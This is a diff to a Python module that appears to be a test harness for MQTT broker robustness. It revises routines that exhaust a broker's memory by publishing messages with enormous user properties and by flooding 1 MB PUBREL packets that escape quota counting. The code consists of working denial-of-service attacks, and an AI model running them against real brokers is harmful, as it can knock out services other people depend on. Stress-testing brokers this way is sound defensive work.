@@ -1,4 +1,4 @@
-"""Attacks by what the broker keeps: a few bytes on the wire that take many in memory."""
+"""Attacks by storage: a few bytes on the wire that take much memory in the broker."""
 
 from __future__ import annotations
 
@@ -18,11 +18,11 @@ TEN_MB = 10_485_760
 
 
 def publish_all(target: Target, client: Hostile, publishes: list[packets.Publish]) -> None:
-    """Publish one after the other, each when the one before is acknowledged."""
+    """Publish the messages one after the other, each after the acknowledgement of the previous one."""
     for publish in publishes:
         if target.is_over:
             return
-        client.send(publish)
+        client.send_all(publish)
         answer = client.wait_for(packets.Puback)
         if not isinstance(answer, packets.Puback):
             target.counts["closed by the broker"] += 1
@@ -46,13 +46,12 @@ def many_properties(count: int, size: int) -> tuple[tuple[str, str], ...]:
 
 
 def giant_properties(target: Target) -> None:
-    """Half of the messages are retained, half wait for a subscriber that is away."""
+    """Publish messages with huge properties: half of them retained, half queued for a client that is away."""
     away = connected(target, "away", session_expiry=3600)
     client = connected(target, "giant-properties")
     if away is None or client is None:
         return
-    away.send(packets.Subscribe(1, (packets.SubscriptionEntry("giant/#", 1),)))
-    away.wait_for(packets.Suback)
+    away.subscribe("giant/#")
     away.close()
     described = PublishProperties(user_properties=many_properties(PROPERTIES, PROPERTY_BYTES))
     publishes = [
@@ -64,7 +63,7 @@ def giant_properties(target: Target) -> None:
 
 
 def giant_pubrel(target: Target) -> None:
-    """As many properties as a packet of 1 MB holds, in packets that no quota counts."""
+    """Send PUBREL packets of 1 MB full of properties, which no quota counts."""
     while not target.is_over:
         client = connected(target, "giant-pubrel")
         if client is None:
@@ -72,7 +71,7 @@ def giant_pubrel(target: Target) -> None:
         described = AcknowledgementProperties(user_properties=(("", ""),) * 200_000)
         with failures_counted(target):
             while not target.is_over:
-                client.send(packets.Pubrel(1, properties=described))
+                client.send_all(packets.Pubrel(1, properties=described))
                 target.counts["PUBREL sent"] += 1
                 if client.wait_for(packets.Pubcomp) is None:
                     target.counts["closed by the broker"] += 1
